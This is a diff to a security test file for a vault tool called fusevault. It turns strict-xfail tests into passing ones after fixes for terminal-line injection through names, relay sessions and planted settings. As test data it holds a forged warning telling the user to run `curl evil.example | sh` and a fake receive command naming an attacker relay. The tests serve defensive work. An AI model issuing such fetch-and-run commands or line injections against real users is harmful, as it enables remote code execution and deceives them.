@@ -2,7 +2,7 @@
 setpriv), the text that reaches a terminal or a log, and root's rights; with (b) and (a)/(d) for the
 text and the state a device keeps.
 
-Status: all nine holes open; each test is a strict xfail that passes once its hole is closed.
+Status: every hole is fixed and its test passes (docs/SECURITY.md "Attack round 26" says how).
 
 Holes
 -----
@@ -190,8 +190,6 @@ def _unmount(mountpoint: Path) -> None:
 FORGED = "fusevault: WARNING the vault is damaged: run `curl evil.example | sh` to repair it"
 
 
-@pytest.mark.xfail(strict=True, reason="cli/status.py prints each mount point raw: another user's "
-                   "mount point with a line break writes a line of its own on root's terminal")
 def test_another_users_mount_point_writes_no_line_of_its_own_in_roots_status(linux, place, python) -> None:  # noqa: F811
     home = place / "dave"
     mountpoint = home / f"m\n{FORGED}"
@@ -218,9 +216,6 @@ def test_a_vault_id_from_the_vault_folder_writes_no_line_of_its_own_in_info(vaul
     assert not any(line.startswith(FORGED) for line in info.stdout.splitlines()), info.stdout
 
 
-@pytest.mark.xfail(strict=True, reason="vault/services/check.py:292 writes a file's path raw into the "
-                   "\"no sidecar\" note `fusevault check` prints: a name with a line break writes a line "
-                   "of its own")
 def test_a_file_name_writes_no_line_of_its_own_in_checks_sidecar_note(vault: Path, tmp_path: Path) -> None:  # noqa: F811
     with mounted(vault, tmp_path / "mnt") as mnt:
         # A name from outside: a WRITE member's in her shared folder, a sender's, a dropper's.
@@ -253,9 +248,6 @@ class _HostileLinkStore:
         return []
 
 
-@pytest.mark.xfail(strict=True, reason="links/owner.py _server_view passes the link store's accessed_at on "
-                   "as it came and cli/links.py _list prints it raw: the store's operator writes a line of "
-                   "his own on her terminal")
 def test_a_link_stores_accessed_at_writes_no_line_of_its_own_in_link_list(monkeypatch, capsys) -> None:
     import argparse
 
@@ -270,8 +262,8 @@ def test_a_link_stores_accessed_at_writes_no_line_of_its_own_in_link_list(monkey
     monkeypatch.setattr(cli_links, "_ask", lambda args, request, *rest: {"links": [found]})
     cli_links._list(argparse.Namespace(json=False))
     out = capsys.readouterr().out
-    assert FORGED in out
-    assert not any(line.startswith(FORGED) for line in out.splitlines()), out
+    assert "notes.txt" in out  # the link is listed ...
+    assert not any(line.startswith(FORGED) for line in out.splitlines()), out  # ... and nothing forged
 
 
 RELAYS_LINE = "On the other computer: fusevault receive evil --relay https://relay.evil.example"
@@ -294,9 +286,6 @@ class _HostileRelay:
         pass
 
 
-@pytest.mark.xfail(strict=True, reason="cli/transfer.py cmd_send's announce prints the relay's session name "
-                   "raw (transfer/send.py takes it as it came): the relay operator writes a line of his own, "
-                   "such as a receive command naming his relay, on the sender's terminal")
 def test_a_relays_session_name_writes_no_line_of_its_own_on_the_senders_terminal(
         monkeypatch, capsys, tmp_path: Path) -> None:
     import argparse
@@ -376,9 +365,6 @@ def test_a_vault_id_with_dot_dots_writes_nothing_outside_her_state_folder(
         shutil.rmtree(outside, ignore_errors=True)
 
 
-@pytest.mark.xfail(strict=True, reason="cli/sync.py _print_peers prints a Peers document's "
-                   "path_to_dump_chunks raw: a store writer's planted peer writes a line of its own in "
-                   "`peer list` (and in what `peer confirm` shows her to check)")
 def test_a_planted_peers_dump_folder_writes_no_line_of_its_own_in_peer_list(vault: Path) -> None:  # noqa: F811
     import adversary
 
@@ -391,9 +377,6 @@ def test_a_planted_peers_dump_folder_writes_no_line_of_its_own_in_peer_list(vaul
     assert not any(line.startswith(FORGED) for line in listed.stdout.splitlines()), listed.stdout
 
 
-@pytest.mark.xfail(strict=True, reason="cli/files.py _show prints a pending setting's value raw: the store "
-                   "writer's unsigned folder setting writes a line of its own in `config show` and in what "
-                   "`config confirm` asks her to check")
 def test_a_planted_pending_setting_writes_no_line_of_its_own_in_config_show(
         vault: Path, tmp_path: Path) -> None:  # noqa: F811
     import adversary
